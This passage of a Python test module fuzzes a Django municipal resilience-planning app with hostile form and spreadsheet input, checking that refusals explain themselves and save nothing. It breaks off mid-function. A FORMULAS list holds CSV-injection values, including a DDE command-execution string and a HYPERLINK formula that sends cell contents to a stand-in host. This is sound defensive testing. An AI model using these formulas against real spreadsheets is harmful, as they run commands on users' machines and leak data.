"""Hostile input into the cold phase: threat scenarios and their scores, the weighing framework,
the priority decision, measures and their progress, the registers (critical processes, partners,
cold-phase roles), the import of measures and the programme page's filters (hypothesis;
tests/bad_input.py says how it runs).

Beyond "no server error, nothing unescaped", issue 14 asks two things of every refusal: it says
why (every error of the refused form is on the page), and it leaves nothing half-saved (weights
that do not add up make no version, a spreadsheet with garbage imports no measure)."""

import csv
import io
import re
from dataclasses import dataclass
from datetime import date, timedelta
from html import unescape

import pytest
from django.apps import apps
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.shortcuts import resolve_url
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.html import escape
from hypothesis import event, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from crisisroom.models import Partner
from resilience import selectors, services, spreadsheets
from resilience import urls as resilience_urls
from resilience.models import (
    LIKELIHOOD,
    Assessment,
    CriticalProcess,
    Framework,
    Measure,
    MeasurePhase,
    MeasureStatus,
    MeasureTheme,
    PriorityDecision,
    ProgressNote,
    ResilienceRole,
    RiskTheme,
    ThreatScenario,
)
from tests.bad_input import fuzz, hows, mutate, rolled_back, send, sweep
from tests.strategies import (
    as_text,
    assert_echoed,
    assert_safe,
    choice_text,
    datetime_value,
    free_text,
    int_text,
    ints,
    page_text,
    payloads,
)

pytestmark = pytest.mark.django_db


def url(name: str, cold, **kwargs) -> str:
    return reverse(name, kwargs={"pk": cold.organisation.pk, **kwargs})


def today() -> date:
    return timezone.localdate()


# -- the scene: organisation A's cold phase, and things of organisation B it must never take ---


@dataclass
class Scene:
    scenarios: list[ThreatScenario]  # A's current scenarios (the shipped examples)
    archived: ThreatScenario
    partner: Partner
    retired: Partner  # no longer in use
    process: CriticalProcess
    overdue: Measure
    codes: list[str]  # the criteria of A's current framework
    foreign_partner: Partner  # organisation B's
    foreign_scenario: ThreatScenario
    foreign_measure: Measure

    @property
    def first_scenario(self) -> ThreatScenario:
        return self.scenarios[0]


@pytest.fixture
def scene(cold, world) -> Scene:
    org, aov = cold.organisation, cold.aov
    scenarios = list(selectors.scenarios_of(organisation=org))
    archived = services.scenario_save(
        organisation=org, actor=aov, title="Oud scenario", theme=RiskTheme.CYBER
    )
    services.scenario_archive(scenario=archived, actor=aov)
    partner = services.partner_save(
        organisation=org, actor=aov, name="Woonstede", kind="woningcorporatie"
    )
    retired = services.partner_save(
        organisation=org, actor=aov, name="Oude partner", kind="bedrijf", is_active=False
    )
    overdue = services.measure_create(
        organisation=org,
        actor=aov,
        data=services.MeasureInput(
            title="Noodstroom gemeentehuis",
            theme="energie",
            phase="koude_fase",
            owner_function="Facilitair manager",
            owner_partner=partner,
            starts_on=today() - timedelta(days=40),
            due_on=today() - timedelta(days=3),
            status="loopt",
        ),
    )
    process = services.critical_process_save(
        organisation=org,
        actor=aov,
        name="Uitkeringen",
        max_outage_hours=72,
        fallback="Handmatig uitbetalen",
        measures=[cold.measure],
    )
    framework = selectors.framework_current(organisation=org)
    assert framework is not None  # a municipality starts with the shipped framework
    other = world.org_b
    return Scene(
        scenarios=scenarios,
        archived=archived,
        partner=partner,
        retired=retired,
        process=process,
        overdue=overdue,
        codes=[c.code for c in framework.criteria.all()],
        foreign_partner=services.partner_save(
            organisation=other, actor=world.outsider, name="Partner van B", kind="bedrijf"
        ),
        foreign_scenario=services.scenario_save(
            organisation=other, actor=world.outsider, title="Scenario van B", theme="cyber"
        ),
        foreign_measure=services.measure_create(
            organisation=other,
            actor=world.outsider,
            data=services.MeasureInput(
                title="Maatregel van B", theme="energie", phase="koude_fase", owner_function="IT"
            ),
        ),
    )


# -- values ------------------------------------------------------------------------------------

EDGE_DAYS = (
    *("0001-01-01", "0001-01-07", "9999-12-25", "9999-12-31"),  # a week within either end
    *("2031-02-29", "2031-02-30", "2031-13-01", "0000-00-00", "+10000-01-01", "-2031-01-01"),
    *("31-12-2031", "31/12/2031", "2031-1-1", "20310101", "2031-W01-1", ""),  # other spellings
)
WEIGHTS = (
    *("100", "100,00", " 100 ", "12,5", "12.5", "33,33", "0", "-0", "0,001", "100.01"),
    *("-1", "-0,01", "100,001", "1e2", "1E1", "1,0e1", "1.000,5", "1,000.5", "1,2,3"),
    *("NaN", "nan", "-NaN", "sNaN", "Infinity", "-Infinity", "inf", "50%", "\u20ac50", ""),
    *("\uff11\uff10", "\u0663"),  # fullwidth 10 and Arabic-Indic 3: Decimal() reads both
    *("9" * 5000, "1" + "0" * 30),
)
BUDGETS = (
    *("0", "-0", "-1", "-0.01", "0.001", "1250.50", "1.250,50", "1,5", "\u20ac 12", ""),
    *("9999999999.99", "10000000000", "1e30", "1e-30", "9" * 5000),
    *("NaN", "sNaN", "Infinity", "-Infinity"),
)
EDGE_NUMBERS = (
    *("-1", "0", str(2**31), str(2**63), str(10**30), str(-(2**63) - 1)),
    *("\u00b2", "\u0661", "9" * 5000, "1e3", "1.5", ""),
)
# A formset builds (and renders) up to max_num + 1000 forms for a large TOTAL_FORMS: keep the
# counts cheap, as tests/crisisroom/test_bad_input.py does.
CHEAP_COUNTS = ("-1", "0", "1", "2", "41", "\u00b2", "9" * 5000, "", "x")
# Spreadsheet programs run a cell starting with one of =, +, -, @, tab, carriage return.
FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", "+31 6 12345678", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"),
    *("'=1", "''=1", '=HYPERLINK("http://example.invalid/?"&A1,"Klik")'),
    '=IMPORTXML("http://example.invalid","//a")',
)


def day_text() -> st.SearchStrategy[str]:
    """What arrives in a date field: a day near today, any day, an edge, or anything."""
    return st.one_of(
        st.integers(-800, 800).map(lambda n: (today() + timedelta(days=n)).isoformat()),
        st.dates().map(date.isoformat),
        st.dates().map(lambda d: d.strftime("%d-%m-%Y")),
        st.sampled_from(EDGE_DAYS),
        datetime_value().map(as_text),  # a date and time where a date is due
    )


def text() -> st.SearchStrategy[str]:
    """Free text, or (as often) a line a form takes with markup in it: so the saving path runs
    and the payload is looked for, escaped, on the pages that show it."""
    return free_text() | st.builds("Tekst {} erbij".format, payloads())


def weight_text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(WEIGHTS),
        st.decimals(min_value=0, max_value=100, places=2).map(str),
        st.decimals(places=3, allow_nan=True, allow_infinity=True).map(str),
        int_text(),
    )


def budget_text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(BUDGETS),
        st.decimals(min_value=0, max_value=10**10, places=2).map(str),
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
        int_text(),
    )


def ids(valid) -> st.SearchStrategy[str]:
    """A choice of a related object: one of ``valid`` (own or foreign ids), or anything."""
    return choice_text(valid) | int_text()


def id_lists(valid) -> st.SearchStrategy[list[str]]:
    return st.lists(ids(valid), max_size=3)


def even_weights(count: int, cuts: list[int], comma: bool) -> list[str]:
    """``count`` weights with two decimals that add up to exactly 100."""
    points = [0, *sorted(cuts)[: count - 1], 10_000]
    values = [f"{(b - a) / 100:.2f}" for a, b in zip(points, points[1:], strict=False)]
    return [v.replace(".", ",") for v in values] if comma else values


# -- checks ------------------------------------------------------------------------------------

FORM_KEYS = ("form", "formset", "decide_form", "progress_form")


def answered(response) -> None:
    """For --hypothesis-show-statistics: how often each answer came (saved, refused, …)."""
    event(f"answered {response.status_code}")


def _form_errors(form, shown: list[str], hidden: list[str]) -> None:
    for name, errors in form.errors.items():
        field = form.fields.get(name)
        (hidden if field is not None and field.widget.is_hidden else shown).extend(errors)


def assert_explained(response) -> None:
    """A refusal says why: a 4xx whose page shows (escaped) every error of the refused form,
    or of the rows of a refused import; a hidden field's error at least gets an alert."""
    assert 400 <= response.status_code < 500, response.status_code
    if response.status_code == 400 and response.context is None:
        return  # a body Django itself would not parse (a part header over its limit): no form
    body = page_text(response)
    shown: list[str] = []
    hidden: list[str] = []
    context = response.context
    with translation.override(getattr(response.wsgi_request, "LANGUAGE_CODE", None)):
        for key in FORM_KEYS:
            found = context.get(key) if context is not None else None
            if found is None:
                continue
            if hasattr(found, "non_form_errors"):  # a formset
                shown.extend(found.non_form_errors())
                for form in found.forms:
                    _form_errors(form, shown, hidden)
            else:
                _form_errors(found, shown, hidden)
        refused = context.get("refused") if context is not None else None
        if refused is not None and refused.form is not None:
            _form_errors(refused.form, shown, hidden)
        check = context.get("check") if context is not None else None
        if check is not None:
            shown.extend(error for row in check.rejected for error in row.errors)
        shown = [str(e) for e in shown]
        hidden = [str(e) for e in hidden]
    said = (
        shown
        or hidden
        or check is not None
        or any(mark in body for mark in ('role="alert"', 'class="message message-error"'))
    )
    assert said, f"{response.status_code} without a reason on the page"
    missing = [e for e in shown if escape(e) not in body]
    assert not missing, f"refused, but the page does not say: {missing}"[:600]
    if hidden:
        assert 'role="alert"' in body or any(escape(e) in body for e in hidden), (
            f"refused for a hidden field ({hidden}), and the page says nothing"
        )


def _text_columns(model) -> list[str]:
    return [
        f.attname
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField | models.JSONField)
    ]


def nul_stored() -> list[str]:
    """Text of the cold phase (and the partner register) holding NUL: PostgreSQL refuses it."""
    found = []
    for model in [*apps.get_app_config("resilience").get_models(), Partner]:
        names = _text_columns(model)
        for row in model.objects.values_list("pk", *names):
            for name, value in zip(names, row[1:], strict=True):
                if "\x00" in str(value) or "\\u0000" in str(value):
                    found.append(f"{model.__name__}.{name} (pk {row[0]})")
    return found


def _state() -> tuple:
    """Everything a refused form must leave as it was (counts and the last change)."""
    return (
        ThreatScenario.objects.count(),
        list(ThreatScenario.objects.order_by("pk").values_list("updated_at", "is_archived")),
        Framework.objects.count(),
        Assessment.objects.count(),
        PriorityDecision.objects.count(),
        list(Measure.objects.order_by("pk").values_list("revision", "updated_at")),
        ProgressNote.objects.count(),
        list(CriticalProcess.objects.order_by("pk").values_list("updated_at", flat=True)),
        list(Partner.objects.order_by("pk").values_list("name", "kind", "is_active")),
        sorted(ResilienceRole.objects.values_list("user_id", "kind")),
    )


# -- threat scenarios and their scores ----------------------------------------------------------


@fuzz(20)
@given(data=st.data())
def test_a_scenario_survives_any_input(cold, scene, login, data):
    editing = data.draw(st.booleans(), label="edit")
    fields = mutate(
        data,
        {
            "title": data.draw(text(), label="title"),
            "theme": "cyber",
            "description": "Systemen liggen plat.",
            "sources": "Regionaal risicoprofiel",
        },
        {
            "title": free_text() | st.sampled_from([s.title for s in scene.scenarios]),
            "theme": choice_text(RiskTheme.values),
            "description": free_text(),
            "sources": free_text(),
        },
    )
    texts = [fields.get(name) for name in ("title", "description", "sources")]
    how = data.draw(hows, label="how")
    with rolled_back():
        client = login(cold.aov)
        if editing:
            target = url("scenario_edit", cold, scenario_pk=scene.scenarios[0].pk)
        else:
            target = url("scenario_create", cold)
        before = _state()
        response = send(client, target, fields, how)
        body = assert_safe(response, fields)
        answered(response)
        if response.status_code == 302:
            assert_echoed(assert_safe(client.get(response["Location"]), fields), *texts)
            assert_echoed(assert_safe(client.get(url("scenario_list", cold)), fields), texts[0])
            assert_safe(client.get(url("weighing_page", cold)), fields)
        else:
            assert_explained(response)
            assert_echoed(body, *texts)
            assert _state() == before


@fuzz(20)
@given(data=st.data())
def test_a_score_survives_any_input(cold, scene, login, data):
    aspects = [*scene.codes, LIKELIHOOD]
    aspect = data.draw(choice_text(aspects), label="aspect")
    prefix = data.draw(st.just(aspect) | choice_text(aspects), label="form prefix")
    reasoning = data.draw(text(), label="reasoning")
    names = {n: f"score-{prefix}-{n}" for n in ("value", "reasoning", "source")}
    fields = mutate(
        data,
        {"aspect": aspect, names["value"]: "3", names["reasoning"]: reasoning},
        {
            "aspect": choice_text(aspects),
            names["value"]: choice_text(range(0, 6)) | int_text(),
            names["source"]: free_text(),
        },
    )
    texts = [fields.get(names["reasoning"]), fields.get(names["source"])]
    archived = data.draw(st.booleans(), label="archived scenario")
    scenario = scene.archived if archived else scene.scenarios[1]
    with rolled_back():
        client = login(cold.aov)
        before = _state()
        target = url("scenario_score", cold, scenario_pk=scenario.pk)
        response = send(client, target, fields, data.draw(hows, label="how"))
        body = assert_safe(response, fields)
        answered(response)
        if response.status_code == 302:
            page = assert_safe(client.get(response["Location"]), fields)
            if archived:  # refused with a message: restore it first
                assert _state() == before
            else:
                assert_echoed(page, *texts)
        else:
            assert_explained(response)
            refused = response.context and response.context.get("refused")
            if refused is not None and fields.get("aspect") == prefix:
                assert_echoed(body, *texts)  # the refused form again, with what was typed
            assert _state() == before


@fuzz(6)
@given(data=st.data())
def test_archiving_a_scenario_survives_any_input(cold, scene, login, data):
    fields = data.draw(st.fixed_dictionaries({}, optional={"archived": choice_text(["0", "1"])}))
    scenario = data.draw(st.sampled_from([scene.archived, scene.scenarios[2]]), label="scenario")
    with rolled_back():
        client = login(cold.aov)
        target = url("scenario_archive", cold, scenario_pk=scenario.pk)
        response = send(client, target, fields, data.draw(hows, label="how"))
        assert_safe(response, fields)
        answered(response)
        assert response.status_code == 302
        assert_safe(client.get(url("scenario_list", cold)), fields)
        assert_safe(client.get(url("scenario_detail", cold, scenario_pk=scenario.pk)), fields)


# -- the framework -----------------------------------------------------------------------------


def _only_texts(data, base: dict, hostile: dict) -> dict:
    """``mutate``'s stand-in for the calm examples: ``base`` as it is, a valid skeleton in which
    only the texts drawn into it can be wrong."""
    return dict(base)


def _frameworks(cold) -> list[tuple]:
    return list(
        Framework.objects.filter(organisation=cold.organisation)
        .order_by("version")
        .values_list("version", "criteria__code", "criteria__weight")
    )


@fuzz(25)
@given(data=st.data())
def test_the_framework_editor_survives_any_input(cold, scene, login, data):
    count = data.draw(st.integers(0, 5), label="criteria")
    cuts = data.draw(st.lists(st.integers(1, 9_999), min_size=4, max_size=4), label="cuts")
    weights = even_weights(count, cuts, data.draw(st.booleans(), label="comma"))
    fields = {}
    names = []
    # Half the forms are as the page sends them, only the typed texts hostile: so some save.
    calm = data.draw(st.booleans(), label="only the texts hostile")
    for i in range(count):
        name = data.draw(text(), label=f"name {i}")
        names.append(name)
        row = (_only_texts if calm else mutate)(
            data,
            {
                "code": scene.codes[i] if i < len(scene.codes) else f"nieuw-{i}",
                "name": name,
                "description": "",
                "weight": weights[i],
            },
            {
                "code": choice_text(scene.codes) | free_text(),
                "description": free_text(),
                "weight": weight_text(),
                "DELETE": choice_text(["on"]),
            },
        )
        fields.update({f"criteria-{i}-{key}": value for key, value in row.items()})
    management = {
        "criteria-TOTAL_FORMS": str(count),
        "criteria-INITIAL_FORMS": str(count),
        "criteria-MIN_NUM_FORMS": "0",
        "criteria-MAX_NUM_FORMS": "1000",
    }
    consistent = calm or data.draw(st.booleans(), label="consistent management form")
    if not consistent:
        management = mutate(
            data, management, dict.fromkeys(management, st.sampled_from(CHEAP_COUNTS))
        )
    version = Framework.objects.filter(organisation=cold.organisation).count()
    rest = (_only_texts if calm else mutate)(
        data,
        {"note": data.draw(text(), label="note"), "based_on_version": str(version)},
        {"based_on_version": int_text()},
    )
    if data.draw(st.sampled_from([False, False, False, True]), label="add a row"):  # saves nothing
        rest["add_row"] = data.draw(choice_text(["1", ""]), label="add_row")
    fields.update(management, **rest)
    with rolled_back():
        client = login(cold.aov)
        before = _frameworks(cold)
        response = send(client, url("framework_edit", cold), fields, data.draw(hows, label="how"))
        body = assert_safe(response, fields)
        answered(response)
        if "add_row" in fields:  # the page again, one row longer, nothing checked or saved
            assert response.status_code == 200
            assert _frameworks(cold) == before
            assert_echoed(body, fields["note"], *(names if consistent else []))
        elif response.status_code == 302:
            newest = selectors.framework_current(organisation=cold.organisation)
            assert newest.version == version + 1
            assert sum(c.weight for c in newest.criteria.all()) == 100
            page = client.get(url("framework_version", cold, version=newest.version))
            assert_echoed(assert_safe(page, fields), *[c.name for c in newest.criteria.all()])
            assert_safe(client.get(url("weighing_page", cold)), fields)
            assert_safe(client.get(url("scenario_detail", cold, scenario_pk=scene.scenarios[0].pk)))
        else:
            assert_explained(response)
            assert _frameworks(cold) == before, "a refused framework saved a version"
            assert_echoed(body, fields.get("note"))
            if consistent:
                assert_echoed(body, *names)


FRAMEWORK_REFUSALS = [
    # (why, weights): each refused, with a reason on the page and no new version
    ("adds up to 90", ["60", "30"]),
    ("adds up to 99.99", ["33,33", "33,33", "33,33"]),
    ("adds up to 100.01", ["50", "50,01"]),
    ("adds up to 200", ["100", "100"]),
    ("negative", ["110", "-10"]),
    ("over 100", ["100.01"]),
    ("three decimals", ["99,999", "0,001"]),
    ("not a number", ["NaN"]),
    ("not a number, signalling", ["sNaN"]),
    ("infinite", ["Infinity"]),
    ("minus infinite", ["-Infinity", "100"]),
    ("huge", ["1" + "0" * 30]),
    ("very long", ["9" * 5000]),
    ("two commas", ["1,2,3"]),
    ("percent sign", ["100%"]),
    ("empty", [""]),
    ("the likelihood's code", ["50", "50"], [LIKELIHOOD, "doden"]),
    ("one code twice", ["50", "50"], ["doden", "doden"]),
]


def test_weights_that_do_not_add_up_save_no_version_and_say_why(cold, scene, login):
    client = login(cold.aov)
    version = Framework.objects.filter(organisation=cold.organisation).count()
    failures = []
    for why, weights, *codes in FRAMEWORK_REFUSALS:
        codes = codes[0] if codes else [f"c{i}" for i in range(len(weights))]
        fields = {
            "criteria-TOTAL_FORMS": str(len(weights)),
            "criteria-INITIAL_FORMS": str(len(weights)),
            "note": "Nieuwe weging",
            "based_on_version": str(version),
        }
        for i, weight in enumerate(weights):
            fields |= {
                f"criteria-{i}-code": codes[i],
                f"criteria-{i}-name": f"Criterium {i}",
                f"criteria-{i}-weight": weight,
            }
        with rolled_back():
            before = _frameworks(cold)
            response = client.post(url("framework_edit", cold), fields)
            try:
                assert_explained(response)
                assert _frameworks(cold) == before, "a version was saved"
            except AssertionError as error:
                failures.append(f"{why} {weights}: {error}"[:300])
    assert not failures, "\n".join(failures)


# -- the priority decision ---------------------------------------------------------------------


@fuzz(20)
@given(data=st.data())
def test_the_priority_decision_survives_any_input(cold, scene, login, data):
    count = len(scene.scenarios)
    # A valid order to start from (some scenarios left out), then hostile numbers in places.
    order = data.draw(st.permutations(range(1, count + 1)), label="order")
    chosen = data.draw(st.lists(st.booleans(), min_size=count, max_size=count), label="chosen")
    positions = {
        f"position-{s.pk}": str(number) if keep else ""
        for s, number, keep in zip(scene.scenarios, order, chosen, strict=True)
    }
    calm = data.draw(st.booleans(), label="only the reasons hostile")
    positions = (_only_texts if calm else mutate)(
        data, positions, dict.fromkeys(positions, st.sampled_from(["", "1", "2"]) | int_text())
    )
    unknown_ids = [scene.archived.pk, scene.foreign_scenario.pk, 0, -1, 2**63, 10**30]
    unknown = data.draw(
        st.dictionaries(
            (st.sampled_from(unknown_ids).map(str) | free_text()).map(lambda k: f"position-{k}"),
            st.just("1") | int_text(),
            max_size=3,
        ),
        label="positions of unknown scenarios",
    )
    fields = mutate(
        data,
        {
            **({} if calm else unknown),
            **positions,
            "decided_by": "burgemeester",
            "decided_on": today().isoformat(),
            "review_on": (today() + timedelta(days=365)).isoformat(),
            "reasons": data.draw(text(), label="reasons"),
        },
        {"reasons": free_text()}
        if calm
        else {
            "decided_by": choice_text(PriorityDecision.DecidedBy.values),
            "decided_on": day_text(),
            "review_on": day_text(),
            "reasons": free_text(),
        },
    )
    who = data.draw(st.sampled_from([cold.mayor, cold.org_admin]), label="who")
    with rolled_back():
        client = login(who)
        before = _state()
        decisions = PriorityDecision.objects.count()
        response = send(client, url("priority_decide", cold), fields, data.draw(hows, label="how"))
        body = assert_safe(response, fields)
        answered(response)
        if response.status_code == 302:
            decision = PriorityDecision.objects.filter(organisation=cold.organisation).first()
            assert PriorityDecision.objects.count() == decisions + 1
            chosen = {item.scenario_id for item in decision.items.all()}
            assert chosen <= {s.pk for s in scene.scenarios}, "an unknown scenario was decided"
            assert decision.review_on > decision.decided_on
            page = client.get(response["Location"])
            assert_echoed(assert_safe(page, fields), fields["reasons"])
            assert_safe(client.get(url("weighing_page", cold)), fields)
            assert_safe(client.get(url("resilience_home", cold)), fields)
        else:
            assert_explained(response)
            assert _state() == before
            assert_echoed(body, fields.get("reasons"))


def test_a_refused_decision_says_why_and_records_nothing(cold, scene, login):
    first, second = scene.scenarios[0].pk, scene.scenarios[1].pk
    valid = {
        "decided_by": "burgemeester",
        "decided_on": today().isoformat(),
        "review_on": (today() + timedelta(days=365)).isoformat(),
        "reasons": "Stroom eerst",
        f"position-{first}": "1",
        f"position-{second}": "2",
    }
    cases = [
        ("dates reversed", {"review_on": (today() - timedelta(days=1)).isoformat()}),
        ("review on the day itself", {"review_on": today().isoformat()}),
        ("review at the first day", {"decided_on": "0001-01-02", "review_on": "0001-01-01"}),
        ("duplicate positions", {f"position-{second}": "1"}),
        ("no positions", {f"position-{first}": "", f"position-{second}": ""}),
        (
            "only an archived scenario",
            {
                f"position-{first}": "",
                f"position-{second}": "",
                f"position-{scene.archived.pk}": "1",
            },
        ),
        (
            "only another organisation's scenario",
            {
                f"position-{first}": "",
                f"position-{second}": "",
                f"position-{scene.foreign_scenario.pk}": "1",
            },
        ),
        ("position 0", {f"position-{first}": "0"}),
        ("position beyond 999", {f"position-{first}": "1000"}),
        ("reasons only spaces", {"reasons": "   \u00a0\u3000"}),
        ("decided by nobody", {"decided_by": "wethouder"}),
    ]
    client = login(cold.mayor)
    failures = []
    for why, change in cases:
        with rolled_back():
            before = _state()
            response = client.post(url("priority_decide", cold), {**valid, **change})
            try:
                assert_explained(response)
                assert _state() == before, "something was recorded"
            except AssertionError as error:
                failures.append(f"{why}: {error}"[:300])
    assert not failures, "\n".join(failures)


# -- measures ----------------------------------------------------------------------------------


MEASURE_TEXTS = ("title", "description", "owner_function", "means")


def measure_fields(cold, scene, data, *, editing: bool, revision: int) -> dict:
    people = [cold.aov.pk, cold.owner.pk, cold.mayor.pk, cold.member.pk, cold.outsider.pk]
    partners = [scene.partner.pk, scene.retired.pk, scene.foreign_partner.pk]
    scenarios = [*[s.pk for s in scene.scenarios[:3]], scene.archived.pk]
    scenarios.append(scene.foreign_scenario.pk)
    base = {
        "title": data.draw(text(), label="title"),
        "theme": "drinkwater",
        "phase": "koude_fase",
        "owner": str(cold.owner.pk),
        "status": "gepland",
    }
    hostile = {
        "title": free_text(),
        "description": free_text(),
        "theme": choice_text(MeasureTheme.values),
        "phase": choice_text(MeasurePhase.values),
        "scenarios": id_lists(scenarios),
        "owner": ids(people),
        "owner_function": free_text(),
        "owner_partner": ids(partners),
        "partners": id_lists(partners),
        "means": free_text(),
        "budget": budget_text(),
        "starts_on": day_text(),
        "due_on": day_text(),
        "status": choice_text(MeasureStatus.values),
    }
    if editing:
        base["revision"] = str(revision)
        hostile["revision"] = choice_text([revision - 1, revision, revision + 1]) | int_text()
    if not data.draw(st.booleans(), label="hostile choices, numbers and dates"):
        hostile = {name: hostile[name] for name in MEASURE_TEXTS}
    return mutate(data, base, hostile)


def _belongs(measure: Measure, cold) -> None:
    """What a saved measure names is the organisation's own, and its dates are in order."""
    org = cold.organisation.pk
    assert all(s.organisation_id == org for s in measure.scenarios.all())
    assert all(p.organisation_id == org for p in measure.partners.all())
    assert measure.owner_partner is None or measure.owner_partner.organisation_id == org
    assert (
        measure.owner is None
        or measure.owner.organisation_memberships.filter(organisation_id=org).exists()
    )
    assert not (measure.starts_on and measure.due_on and measure.starts_on > measure.due_on)


@fuzz(30)
@given(data=st.data())
def test_a_measure_survives_any_input(cold, scene, login, data):
    editing = data.draw(st.booleans(), label="edit")
    stale = editing and data.draw(st.booleans(), label="changed meanwhile")
    who = cold.owner if editing and data.draw(st.booleans(), label="by its owner") else cold.aov
    measure = cold.measure
    fields = measure_fields(cold, scene, data, editing=editing, revision=measure.revision)
    # The owner's own form changes only the work on the measure; the rest stays the adviser's.
    owners_form = who == cold.owner
    texts = [fields.get(n) for n in (("description", "means") if owners_form else MEASURE_TEXTS)]
    how = data.draw(hows, label="how")
    with rolled_back():
        if stale:  # someone else saves first: the form's revision is now an old one
            current = Measure.objects.get(pk=measure.pk)
            data_now = services.MeasureInput(
                title="Noodwater, herzien", theme="drinkwater", phase="koude_fase", owner=cold.owner
            )
            services.measure_update(
                measure=current, actor=cold.aov, data=data_now, based_on_revision=current.revision
            )
        client = login(who)
        target = (
            url("measure_edit", cold, measure_pk=measure.pk)
            if editing
            else url("measure_create", cold)
        )
        before = _state()
        response = send(client, target, fields, how)
        body = assert_safe(response, fields)
        answered(response)
        if response.status_code == 302:
            saved = Measure.objects.get(pk=measure.pk) if editing else Measure.objects.latest("pk")
            _belongs(saved, cold)
            reader = login(cold.aov)  # the owner may have given the measure away
            assert_echoed(assert_safe(reader.get(response["Location"]), fields), *texts)
            page = reader.get(url("programme_page", cold))
            assert_echoed(assert_safe(page, fields), *([] if owners_form else [fields["title"]]))
            assert_safe(reader.get(url("resilience_home", cold)), fields)
            assert_safe(client.get(reverse("crisis_list")), fields)  # the owner's home page
        else:
            assert response.status_code in (409, 422), response.status_code
            assert_explained(response)
            assert _state() == before, "a refused measure changed something"
            assert_echoed(body, *texts)


@fuzz(15)
@given(data=st.data())
def test_progress_survives_any_input(cold, scene, login, data):
    fields = mutate(
        data,
        {
            "on": today().isoformat(),
            "text": data.draw(text(), label="text"),
            "status": "loopt",
        },
        {"on": day_text(), "status": choice_text(MeasureStatus.values), "text": free_text()},
    )
    who = data.draw(st.sampled_from([cold.owner, cold.aov]), label="who")
    with rolled_back():
        client = login(who)
        before = _state()
        target = url("measure_progress", cold, measure_pk=cold.measure.pk)
        response = send(client, target, fields, data.draw(hows, label="how"))
        body = assert_safe(response, fields)
        answered(response)
        if response.status_code == 302:
            assert_echoed(assert_safe(client.get(response["Location"]), fields), fields["text"])
            reader = login(cold.aov)
            assert_safe(reader.get(url("programme_page", cold)), fields)
            csv_export = reader.get(url("programme_csv", cold))
            assert csv_export.status_code == 200
        else:
            assert_explained(response)
            assert _state() == before
            assert_echoed(body, fields.get("text"))


# -- the registers -----------------------------------------------------------------------------


@fuzz(15)
@given(data=st.data())
def test_a_critical_process_survives_any_input(cold, scene, login, data):
    editing = data.draw(st.booleans(), label="edit")
    stale = editing and data.draw(st.booleans(), label="changed meanwhile")
    revision = scene.process.revision
    base = {
        "name": data.draw(text(), label="name"),
        "max_outage_hours": "24",
        "fallback": data.draw(text(), label="fallback"),
    }
    hostile = {
        "name": free_text() | st.just(scene.process.name),
        "description": free_text(),
        "max_outage_hours": int_text(),
        "fallback": free_text(),
        "owner_function": free_text(),
        "measures": id_lists([cold.measure.pk, scene.overdue.pk, scene.foreign_measure.pk]),
    }
    if editing:
        base["revision"] = str(revision)
        hostile["revision"] = choice_text([revision - 1, revision, revision + 1]) | int_text()
    fields = mutate(data, base, hostile)
    texts = [fields.get(n) for n in ("name", "description", "fallback", "owner_function")]
    with rolled_back():
        if stale:  # the administrator saves it first: the form's revision is now an old one
            services.critical_process_save(
                organisation=cold.organisation,
                actor=cold.org_admin,
                process=scene.process,
                name="Uitkeringen en toeslagen",
                max_outage_hours=48,
                fallback="Handmatig uitbetalen",
                based_on_revision=revision,
            )
        client = login(cold.aov)
        if editing:
            target = url("process_edit", cold, process_pk=scene.process.pk)
        else:
            target = url("process_create", cold)
        before = _state()
        response = send(client, target, fields, data.draw(hows, label="how"))
        body = assert_safe(response, fields)
        answered(response)
        if response.status_code == 302:
            assert not CriticalProcess.objects.filter(measures=scene.foreign_measure).exists()
            assert_echoed(assert_safe(client.get(response["Location"]), fields), *texts)
            assert_safe(client.get(url("measure_detail", cold, measure_pk=cold.measure.pk)))
        else:
            assert response.status_code in (409, 422), response.status_code
            assert_explained(response)
            assert _state() == before
            assert_echoed(body, *texts)


@fuzz(15)
@given(data=st.data())
def test_a_partner_survives_any_input(cold, scene, login, data):
    editing = data.draw(st.booleans(), label="edit")
    fields = mutate(
        data,
        {"name": data.draw(text(), label="name"), "kind": "zorg", "is_active": "on"},
        {
            "name": free_text() | st.sampled_from(["Woonstede", "woonstede", " Oude partner "]),
            "kind": choice_text(Partner.Kind.values),
            "contact_route": free_text(),
            "is_active": choice_text(["on", "true", "1", "false", "0"]),
        },
    )
    texts = [fields.get("name"), fields.get("contact_route")]
    with rolled_back():
        client = login(cold.aov)
        if editing:
            target = url("partner_edit", cold, partner_pk=scene.partner.pk)
        else:
            target = url("partner_create", cold)
        before = _state()
        response = send(client, target, fields, data.draw(hows, label="how"))
        body = assert_safe(response, fields)
        answered(response)
        if response.status_code == 302:
            assert_echoed(assert_safe(client.get(response["Location"]), fields), *texts)
            page = client.get(url("measure_edit", cold, measure_pk=scene.overdue.pk))
            assert_safe(page, fields)  # the partners are choices of a measure
        else:
            assert_explained(response)
            assert _state() == before
            assert_echoed(body, *texts)


@fuzz(12)
@given(data=st.data())
def test_setting_a_role_survives_any_input(cold, scene, login, data):
    people = [cold.aov.pk, cold.owner.pk, cold.member.pk, cold.mayor.pk, cold.outsider.pk]
    fields = data.draw(
        st.fixed_dictionaries(
            {},
            optional={
                "user": ids(people),
                "kind": choice_text(["", *ResilienceRole.Kind.values]),
            },
        ),
        label="fields",
    )
    with rolled_back():
        client = login(cold.org_admin)
        before = _state()
        response = send(client, url("resilience_role_set", cold), fields, data.draw(hows))
        assert_safe(response, fields)
        answered(response)
        if response.status_code == 302:
            assert not ResilienceRole.objects.filter(user=cold.outsider).exists()
            assert_safe(client.get(response["Location"]), fields)
        else:
            assert_explained(response)
            assert _state() == before


# -- the import --------------------------------------------------------------------------------

IMPORT_COLUMNS = [c for c in spreadsheets.PROGRAMME_COLUMNS if c not in ("nummer", "te laat")]


def cell_text() -> st.SearchStrategy[str]:
    return st.one_of(text(), st.sampled_from(FORMULAS), st.just(""))


def _csv_bytes(header, rows, delimiter: str, encoding: str, quote_all: bool) -> bytes:
